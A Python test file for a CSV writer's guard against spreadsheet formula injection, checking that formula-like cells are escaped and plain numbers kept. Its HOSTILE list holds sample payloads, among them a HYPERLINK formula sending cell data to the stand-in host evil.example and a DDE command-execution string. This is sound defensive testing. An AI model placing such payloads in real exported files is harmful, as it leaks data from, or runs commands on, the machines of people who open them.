"""Every CSV cell is safe to open in a spreadsheet, and the guard is reversible."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from contreact.analysis.csv_writer import TRIGGERS, cell_text, original, safe_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
]


def test_formula_like_cells_get_an_apostrophe_and_plain_numbers_stay() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text, text
    for number in ("-3", "+2.5", "-.5", "1e-05", "-1E+9", "42", "0.0"):
        assert safe_cell(number) == number
    for harmless in ("a=b", "note - draft", "email@example.org", "", "'plain", "–"):
        assert safe_cell(harmless) == harmless


def test_values_of_every_kind_pass_the_guard() -> None:
    assert cell_text(None) == ""
    assert cell_text(-3) == "-3" and cell_text(-0.25) == "-0.25" and cell_text(True) == "True"
    assert cell_text(float("-inf")) == "'-inf"
    assert cell_text(["=1"]) == '["=1"]'  # JSON text starts with a bracket
    assert cell_text("=1+1") == "'=1+1"
    # A carriage return is first shown escaped (terminal safety), so nothing is left to run.
    assert cell_text("\r=1") == "\\x0d=1"


@given(st.text())
def test_the_guard_is_reversible_and_never_leaves_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert original(cell) == text
    if cell[:1] and cell[0] in TRIGGERS:
        float(cell)  # only a plain number may start with a sign


def test_the_writer_guards_the_header_and_every_row() -> None:
    stream = io.StringIO()
    write_csv([{"=key": "=cmd|' /C calc'!A0", "n": -1}], stream)
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["'=key", "n"], ["'=cmd|' /C calc'!A0", "-1"]]
